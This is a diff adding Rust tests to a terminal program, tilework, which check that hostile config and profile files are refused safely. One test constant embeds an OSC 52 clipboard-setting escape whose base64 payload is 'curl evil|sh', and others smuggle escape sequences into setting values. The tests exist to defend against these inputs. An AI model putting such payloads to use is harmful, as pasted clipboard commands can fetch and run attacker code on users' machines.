@@ -1131,11 +1131,33 @@ fn the_last_program_exiting_restores_the_terminal_and_kills_the_children() {
 // Bad configuration and profiles
 // ---------------------------------------------------------------------------
 
+/// What tilework may hold while it refuses a file: its own start-up (~10
+/// MiB in a debug build) and a file read up to the 1 MiB limit, with room
+/// to spare. A reader without a bound passes this within a second on
+/// `/dev/zero`.
+const REFUSING_RSS_LIMIT_KIB: u64 = 256 * MIB;
+
 /// Runs tilework with `args`, expects it to refuse to start: non-zero exit,
 /// every `expected` piece in the message, and the terminal never touched.
-fn refused(args: &[&str], expected: &[&str]) {
+/// Returns what tilework wrote to the terminal.
+///
+/// It must exit by itself within [`common::TIMEOUT`] (a FIFO that blocks
+/// start-up fails the test rather than hanging it) and without growing past
+/// [`REFUSING_RSS_LIMIT_KIB`] (an endless file fails it before it can take
+/// the machine's memory).
+fn refused(args: &[&str], expected: &[&str]) -> Vec<u8> {
     // Wide, so long temp paths in the message stay on one line.
     let mut tw = Tilework::start(args, ROWS, 200);
+    let pid = tw.pid().unwrap();
+    common::wait_until(&format!("tilework {args:?} to exit by itself"), || {
+        let rss = common::rss_kib(pid).unwrap_or(0);
+        assert!(
+            rss < REFUSING_RSS_LIMIT_KIB,
+            "{args:?}: tilework grew to {} MiB instead of refusing",
+            rss / MIB
+        );
+        tw.try_exit().is_some()
+    });
     let status = tw.wait_exit();
     assert!(!status.success(), "{args:?} started anyway");
     let text = tw.screen_text();
@@ -1153,6 +1175,7 @@ fn refused(args: &[&str], expected: &[&str]) {
         assert!(!tw.raw_contains(seq), "{args:?}: {what} was turned on");
     }
     tw.assert_terminal_restored();
+    tw.raw_tail()
 }
 
 fn write_file(dir: &TempDir, name: &str, text: &str) -> String {
@@ -1232,6 +1255,178 @@ fn a_bad_profile_is_refused_before_the_terminal_is_touched() {
     refused(
         &["--profile", "no-such-profile-name"],
         &["no-such-profile-name", "available"],
+    );
+}
+
+/// An OSC 52 that would set the clipboard to `curl evil|sh`, as a TOML
+/// escape, and how tilework must show it.
+const OSC52_IN_TOML: &str = "\\u001b]52;c;Y3VybCBldmlsfHNoCg==\\u0007";
+const OSC52_SHOWN: &str = "\\u{1b}]52;c;Y3VybCBldmlsfHNoCg==\\u{7}";
+
+/// The control characters in what tilework wrote, other than the line
+/// breaks of its message (the PTY turns `\n` into `\r\n`).
+fn controls_in(raw: &[u8]) -> Vec<char> {
+    String::from_utf8_lossy(raw)
+        .chars()
+        .filter(|&c| c.is_control() && c != '\n' && c != '\r')
+        .collect()
+}
+
+#[test]
+fn errors_quoting_a_file_show_its_control_characters_escaped() {
+    let dir = TempDir::new("escape");
+    let osc = OSC52_IN_TOML;
+    let configs = [
+        ("prefix.toml", format!("prefix = \"{osc}\"\n")),
+        (
+            "key.toml",
+            format!("[keys.prefixed]\n\"{osc}\" = \"quit\"\n"),
+        ),
+        (
+            "action.toml",
+            format!("[keys.prefixed]\n\"Q\" = \"{osc}\"\n"),
+        ),
+        ("unknown.toml", format!("fps = 60\n\"{osc}\" = 1\n")),
+        ("size.toml", format!("scrollback = \"{osc}\"\n")),
+    ];
+    for (name, text) in &configs {
+        let path = write_file(&dir, name, text);
+        let raw = refused(
+            &["--config", &path, "-c", "echo should-not-run"],
+            &[name, OSC52_SHOWN],
+        );
+        assert_eq!(
+            controls_in(&raw),
+            [],
+            "{name}: control characters reached the terminal"
+        );
+    }
+    let layout = "[[tab]]\n[tab.layout]\n";
+    let profiles = [
+        (
+            "start.toml",
+            format!("{layout}command = \"x\"\nstart = \"{osc}\"\n"),
+        ),
+        (
+            "restart.toml",
+            format!("{layout}command = \"x\"\nrestart = \"{osc}\"\n"),
+        ),
+        (
+            "split.toml",
+            format!("{layout}split = \"{osc}\"\npanes = [{{}}, {{}}]\n"),
+        ),
+        ("field.toml", format!("{layout}\"{osc}\" = 1\n")),
+    ];
+    for (name, text) in &profiles {
+        let path = write_file(&dir, name, text);
+        let raw = refused(&["--profile", &path], &[name, OSC52_SHOWN]);
+        assert_eq!(
+            controls_in(&raw),
+            [],
+            "{name}: control characters reached the terminal"
+        );
+    }
+}
+
+#[test]
+fn settings_passed_to_children_refuse_control_characters() {
+    let dir = TempDir::new("envctl");
+    let term = write_file(
+        &dir,
+        "term.toml",
+        &format!("term = \"xterm\\n{OSC52_IN_TOML}\"\n"),
+    );
+    let raw = refused(
+        &["--config", &term, "-c", "echo should-not-run"],
+        &[
+            "term.toml:1:8: term: `term` becomes TERM",
+            "control characters",
+        ],
+    );
+    assert_eq!(controls_in(&raw), []);
+    let shell = write_file(&dir, "shell.toml", "shell = \"/bin/sh\\u001b[2J\"\n");
+    refused(
+        &["--config", &shell, "-c", "echo should-not-run"],
+        &["shell.toml:1:9: shell:", "control characters", "\\u{1b}"],
+    );
+}
+
+#[test]
+fn a_config_or_profile_that_is_not_a_regular_file_is_refused_at_once() {
+    let dir = TempDir::new("notfile");
+    let fifo = dir.path().join("fifo.toml");
+    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
+    let fifo = fifo.to_string_lossy().into_owned();
+    let dir_path = dir.path().to_string_lossy().into_owned();
+    for (path, what) in [
+        ("/dev/zero", "it is a character device, not a regular file"),
+        (
+            fifo.as_str(),
+            "it is a FIFO (named pipe), not a regular file",
+        ),
+        (dir_path.as_str(), "it is a directory, not a regular file"),
+    ] {
+        refused(
+            &["--config", path, "-c", "echo should-not-run"],
+            &[&format!("{path}: cannot read the config file: {what}")],
+        );
+        refused(
+            &["--profile", path],
+            &[&format!("{path}: cannot read the profile: {what}")],
+        );
+    }
+}
+
+#[test]
+fn an_oversized_config_or_profile_is_refused() {
+    let dir = TempDir::new("oversized");
+    // Valid TOML (comments), so only its size is wrong: 2 MiB.
+    let padding = "# padding padding padding padding padding padding padding\n".repeat(36_000);
+    let config = write_file(&dir, "big-config.toml", &padding);
+    refused(
+        &["--config", &config, "-c", "echo should-not-run"],
+        &[
+            "big-config.toml: cannot read the config file",
+            "at most 1 MiB",
+        ],
+    );
+    let profile = write_file(&dir, "big-profile.toml", &format!("[[tab]]\n{padding}"));
+    refused(
+        &["--profile", &profile],
+        &["big-profile.toml: cannot read the profile", "at most 1 MiB"],
+    );
+}
+
+#[test]
+fn scrollback_over_the_maximum_is_refused_naming_it() {
+    let dir = TempDir::new("bigscroll");
+    for value in ["\"100000GiB\"", "\"1TiB\"", "2147483648"] {
+        let path = write_file(&dir, "scroll.toml", &format!("scrollback = {value}\n"));
+        refused(
+            &["--config", &path, "-c", "echo should-not-run"],
+            &[
+                "scroll.toml:1:14: scrollback:",
+                "over the maximum of 1 GiB per pane",
+            ],
+        );
+    }
+}
+
+#[test]
+fn a_profile_with_too_many_panes_is_refused_naming_the_limit() {
+    let dir = TempDir::new("manypanes");
+    // Two tabs of 51: each is fine alone, together they pass the limit.
+    let tab = format!(
+        "[[tab]]\n[tab.layout]\nsplit = \"down\"\npanes = [{}]\n",
+        vec!["{ command = \"exit 0\" }"; 51].join(", ")
+    );
+    let path = write_file(&dir, "many.toml", &tab.repeat(2));
+    refused(
+        &["--profile", &path],
+        &[
+            "many.toml:8:",
+            "this is pane 101: a profile may open at most 100 panes",
+        ],
     );
 }
 
